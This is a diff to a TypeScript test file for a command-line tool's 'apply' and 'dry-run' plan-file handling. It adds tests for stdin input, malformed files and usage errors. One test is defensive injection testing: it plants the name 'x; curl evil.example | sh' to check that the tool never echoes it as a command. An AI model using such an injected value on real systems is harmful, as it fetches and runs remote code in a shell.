@@ -2,7 +2,7 @@ import { readFileSync, writeFileSync } from "node:fs"
 import { join } from "node:path"
 import { describe, expect, it } from "vitest"
 import { makeLedger } from "../ledger/initialised.ts"
-import { type CloudDesk, cloudDesk, MINUTE, POLICY, START } from "./harness.ts"
+import { bytes, type CloudDesk, cloudDesk, MINUTE, POLICY, START } from "./harness.ts"
 
 // `dry-run --out` and `apply`, against the real sandbox.
 
@@ -127,6 +127,23 @@ it.each<[answer: string, code: number, orders: number]>([
   },
 )
 
+it("reads a plan file from stdin, and with the byte order mark of a Windows editor", async () => {
+  const own = await cloudDesk()
+  const text = `\uFEFF${readFileSync(await planned(own), "utf8")}`
+  const { code } = await own.runWith({ stdin: bytes(text) }, "apply", "-", "--yes")
+  expect({ code, orders: own.sandbox.orders.length }).toEqual({ code: 0, orders: 1 })
+})
+
+it("prints no command with a supernode's name that only the plan file knows", async () => {
+  const own = await cloudDesk()
+  const file = await planned(own)
+  const { request } = JSON.parse(readFileSync(file, "utf8")) as { request: object }
+  const supernode = "x; curl evil.example | sh"
+  edit(file, { supernode, ledger: "another", request: { ...request, supernode } })
+  const { code, err } = await own.run("apply", file, "--yes")
+  expect({ code, err }).toEqual({ code: 3, err: expect.not.stringContaining("dry-run x;") })
+})
+
 it("does not buy without --yes where no terminal can be asked", async () => {
   const own = await cloudDesk()
   const { code, err } = await own.run("apply", await planned(own))
@@ -137,6 +154,10 @@ it("does not buy without --yes where no terminal can be asked", async () => {
 it.each<[what: string, file: (own: CloudDesk, file: string) => string, says: string]>([
   ["a file that is not there", () => "nowhere.json", "cannot be read: no such file"],
   ["a text that is not JSON", (own) => own.file("p.json", "{"), "is not JSON"],
+  ["null", (own) => own.file("p.json", "null"), "it must be one JSON object. To make one, run: "],
+  ["an empty file", () => "/dev/null", "it is empty. To make one, run: "],
+  ["a directory", (own) => own.dir, "cannot be read: it is a directory"],
+  ["a file without an end", () => "/dev/zero", "is larger than 6 MB"],
   ["another document", (own) => own.file("p.json", { v: 2 }), "is not a plan file: v: "],
   [
     "a request that was edited",
@@ -161,4 +182,13 @@ it("writes no plan file where nothing may be bought, and fails", async () => {
   const { code, err } = await own.run(...ASK, "--out", file)
   expect({ code, err }).toEqual({ code: 1, err: expect.stringContaining("was not written") })
   expect(() => readFileSync(file)).toThrow("ENOENT")
+})
+
+it.each<[why: string, options: string[]]>([
+  ["the start is not before the end", ["--since", "1m", "--until", "1h"]],
+  ["entries to come are asked for until a time that is over", ["--follow", "--until", "1m"]],
+])("it usage of a listing if %s", async (_why, options) => {
+  const own = await cloudDesk()
+  const { code, err } = await own.run("audit", "list", ...options)
+  expect({ code, err }).toEqual({ code: 2, err: expect.stringContaining("--until") })
 })
